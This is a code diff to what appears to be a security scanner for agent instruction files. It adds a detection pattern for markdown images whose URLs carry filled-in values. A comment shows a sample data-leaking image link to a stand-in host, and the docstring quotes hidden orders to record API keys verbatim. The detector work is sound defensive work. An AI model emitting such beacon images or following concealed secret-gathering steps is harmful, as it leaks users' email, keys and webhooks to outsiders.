@@ -322,6 +322,11 @@ _SENDS_RE = re.compile(
 )
 
 
+# an image the agent puts in its reply whose address carries values it fills in: the chat renders
+# it, and the request carries them out (![](https://x.example/r.svg?u={{email}}&h={{webhook}}))
+_BEACON_RE = re.compile(r"!\[[^\]\n]*\]\(\s*https?://[^)\s]*\?[^)\s]*(?:\{\{|\$\{|\{[^}\s]+\}|<[^>\s]+>)")
+
+
 def _section(lines: list[str], at: int, edge: re.Pattern[str]) -> str:
     """The lines around line ``at`` up to the nearest ``edge`` lines above and below."""
     start = at
@@ -378,9 +383,10 @@ def _concealed_in_section(out: Collector, body: Body) -> None:
     """A step kept from the user is dangerous where its section also acts: orders secrets
     gathered in full ("record the API keys verbatim", 把…口令完整记录到笔记; the lines between
     the headings or fences around it: rules written for an agent's memory put each order in an
-    item of its own), or gives a command that sends a variable's value or a file to a web address
-    (the lines between the headings around it: the command sits in a fence, the step kept from the
-    user in the prose after it)."""
+    item of its own), or gives a command that sends a variable's value or a file to a web address,
+    or an image for the reply whose address carries values filled in (the lines between the
+    headings around it: the command sits in a fence, the step kept from the user in the prose
+    after it)."""
     for key, found in list(out.found.items()):
         if found.rule != "concealment" or found.severity != "caution" or found.line is None:
             continue
@@ -388,7 +394,8 @@ def _concealed_in_section(out: Collector, body: Body) -> None:
         if not 0 <= at < len(body.lines):
             continue  # a front-matter field
         gathers = SECRET_GATHER_RE.search(_section(body.lines, at, _BLOCK_EDGE_RE).lower())
-        if gathers or _SENDS_RE.search(_section(body.lines, at, _HEADING_LINE_RE)):
+        section = _section(body.lines, at, _HEADING_LINE_RE)
+        if gathers or _SENDS_RE.search(section) or _BEACON_RE.search(section):
             out.found[key] = dataclasses.replace(found, severity="dangerous")
 
 
